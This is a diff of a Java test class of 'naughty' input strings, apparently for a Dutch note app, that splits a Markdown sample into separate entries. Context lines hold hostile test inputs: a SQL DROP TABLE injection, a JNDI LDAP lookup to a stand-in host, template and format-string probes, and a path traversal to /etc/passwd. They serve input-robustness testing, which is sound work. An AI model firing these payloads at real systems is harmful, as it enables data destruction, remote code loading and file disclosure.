@@ -75,12 +75,12 @@ final class NaughtyTexts {
                     "'; DROP TABLE briefjes; --",
                     "${jndi:ldap://x.example/a} {{7*7}} %s %n {0}",
                     "../../etc/passwd C:\\CON\\AUX file:///dev/null",
-                    "# Kop\n"
-                            + "> citaat\n"
-                            + "1. lijst\n"
-                            + "```code```\n"
-                            + "| a | b |\n"
-                            + "![x](y) [a](b) **vet** _schuin_",
+                    "# Kop",
+                    "> citaat",
+                    "1. lijst",
+                    "```code```",
+                    "| a | b |",
+                    "![x](y) [a](b) **vet** _schuin_",
                     "1) een\n2. twee\n+ drie\n* vier\n=====\n-----",
                     "\\ achteraan\\",
                     "$x^2$ ~golf~ `tik` <a@school.example>",
